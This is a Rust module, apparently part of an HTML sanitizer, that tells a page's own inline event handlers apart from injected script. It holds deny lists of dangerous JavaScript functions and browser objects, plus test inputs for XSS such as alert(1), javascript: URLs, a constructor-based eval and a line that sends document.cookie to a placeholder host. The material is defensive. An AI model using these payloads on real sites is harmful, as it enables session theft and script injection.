//! Handlers that a page's own markup has: `onload="init()"`, `onerror="this.src='x.png'"`.

use memchr::memchr;

use super::handler::waits_for_reader;
use super::html::Attribute;

/// Bytes of a handler whose quotes are entities.
const LONGEST_QUOTED: usize = 128;

/// What a page calls no function of its own.
const HOSTILE: [&[u8]; 16] = [
    b"alert",
    b"atob",
    b"confirm",
    b"constructor",
    b"eval",
    b"fetch",
    b"function",
    b"import",
    b"open",
    b"print",
    b"prompt",
    b"settimeout",
    b"setinterval",
    b"write",
    b"writeln",
    b"xss",
];

/// Objects that lead out of the page.
const OBJECTS: [&[u8]; 14] = [
    b"caches",
    b"cookiestore",
    b"document",
    b"frames",
    b"globalthis",
    b"indexeddb",
    b"localstorage",
    b"location",
    b"parent",
    b"self",
    b"sessionstorage",
    b"top",
    b"window",
    b"navigator",
];

/// Is the handler `attribute` a call of a function that the page has, or does it only change its own element?
///
/// Who can add markup can hardly mean it: the function is already there, what it is given are constants, and outside of
/// a document it waits for the reader. What changes its own element may come by itself.
pub(super) fn is_of_page(attribute: &Attribute, is_document: bool) -> bool {
    attribute.quote == Some(b'"') && is_plain(attribute.name, attribute.value, is_document)
}

/// Is `code`, the handler called `name`, one of them?
pub(super) fn is_plain(name: &[u8], code: &[u8], is_document: bool) -> bool {
    let mut buffer = [0; LONGEST_QUOTED];
    let code = with_quotes(code, &mut buffer).unwrap_or(code).trim_ascii();
    let code = code.strip_suffix(b";").unwrap_or(code);
    let code = code.strip_prefix(b"return ").unwrap_or(code);
    let code = code
        .strip_prefix(b"this.onerror=null;")
        .unwrap_or(code)
        .trim_ascii();
    sets(code) || (is_document || waits_for_reader(name)) && calls(code)
}

/// `code` with its quotes, where an editor wrote them as entities: in `buffer`, if there is room.
fn with_quotes<'b>(code: &[u8], buffer: &'b mut [u8; LONGEST_QUOTED]) -> Option<&'b [u8]> {
    const QUOTES: [&[u8]; 3] = [b"&apos;", b"&#39;", b"&#039;"];
    memchr(b'&', code)?;
    let (mut at, mut rest) = (0, code);
    while let [first, tail @ ..] = rest {
        let name = QUOTES.iter().find(|name| rest.starts_with(name));
        *buffer.get_mut(at)? = if name.is_some() { b'\'' } else { *first };
        rest = name.map_or(tail, |name| &rest[name.len()..]);
        at += 1;
    }
    buffer.get(..at)
}

/// `init()`, `app.save(this, 'draft', 3)`, `go(this)`
fn calls(code: &[u8]) -> bool {
    let name_length = length(code, b"_$.");
    let name = &code[..name_length];
    let arguments = code[name_length..]
        .strip_prefix(b"(")
        .and_then(|rest| rest.strip_suffix(b")"));
    let is_hostile = |part: &[u8]| HOSTILE.contains(&part) || OBJECTS.contains(&part);
    let is_of_element = || arguments.is_some_and(|all| all.trim_ascii_start().starts_with(b"this"));
    (name_length > 3 || name_length > 0 && is_of_element())
        && !name.split(|byte| *byte == b'.').any(is_hostile)
        && arguments.is_some_and(|all| all.split(|byte| *byte == b',').all(is_argument))
}

fn is_argument(argument: &[u8]) -> bool {
    let argument = argument.trim_ascii();
    let quoted = argument
        .strip_prefix(b"'")
        .and_then(|rest| rest.strip_suffix(b"'"));
    let inner = quoted.unwrap_or(argument);
    let is_name = [&b""[..], b"this", b"event", b"true", b"false"].contains(&argument);
    let is_number = argument.iter().all(u8::is_ascii_digit);
    is_name || is_number || quoted.is_some() && length(inner, b"_-#. ") == inner.len()
}

/// `this.src='x.png'`, `this.style.display='none'`
fn sets(code: &[u8]) -> bool {
    let Some(rest) = code.strip_prefix(b"this.") else {
        return false;
    };
    let name = length(rest, b".");
    let value = rest[name..]
        .trim_ascii_start()
        .strip_prefix(b"=")
        .map(<[u8]>::trim_ascii);
    let value = value.and_then(|value| value.strip_prefix(b"'")?.strip_suffix(b"'"));
    let is_inside = [
        &b"src"[..],
        b"value",
        b"hidden",
        b"disabled",
        b"checked",
        b"classname",
    ]
    .contains(&&rest[..name])
        || rest.starts_with(b"style.");
    is_inside
        && value.is_some_and(|value| {
            length(value, b"_-./:#%? ") == value.len()
                && !value.starts_with(b"javascript")
                && !value.starts_with(b"data")
        })
}

/// How many bytes at the start are letters, digits or `signs`.
fn length(text: &[u8], signs: &[u8]) -> usize {
    text.iter()
        .take_while(|byte| byte.is_ascii_alphanumeric() || signs.contains(byte))
        .count()
}

#[cfg(test)]
mod tests {
    use super::is_plain;

    #[test]
    fn a_pages_own_calls_are_plain() {
        let rows = [
            ("onclick", "init()", true),
            ("onload", "init()", false),
            ("onclick", "return app.check(this, 'draft', 3);", true),
            ("onclick", "return sl(this,'','b-lnk');", true),
            (
                "onclick",
                "return sl(this,&apos;&apos;,&#39;b&#039;);",
                true,
            ),
            ("onclick", "go(this,&quot;x&quot;)", false),
            ("onerror", "app.deleteAccount()", false),
            ("onclick", "localstorage.setItem('token','x')", false),
            ("onerror", "this.src='fallback.png'", true),
            ("onerror", "this.onerror=null;this.src='/a/b.png';", true),
            ("onload", "this.style.display='none'", true),
            ("onclick", "alert(1)", false),
            ("onclick", "f()", false),
            ("onclick", "window.name()", false),
            ("onclick", "document.write('x')", false),
            ("onclick", "load(name)", false),
            ("onclick", "load('//a.example/x.js')", false),
            ("onclick", "this.src='javascript:f()'", false),
            ("onclick", "this.src='//a.example/?'+document.cookie", false),
            ("onclick", "[].map.constructor('x')()", false),
            ("onclick", "", false),
        ];
        for (name, code, plain) in rows {
            let (name, code) = (name.as_bytes(), code.as_bytes());
            assert_eq!(is_plain(name, code, false), plain, "{code:?}");
        }
        assert!(is_plain(b"onload", b"init()", true));
        assert!(!is_plain(b"onload", b"localstorage.clear()", true));
    }
}
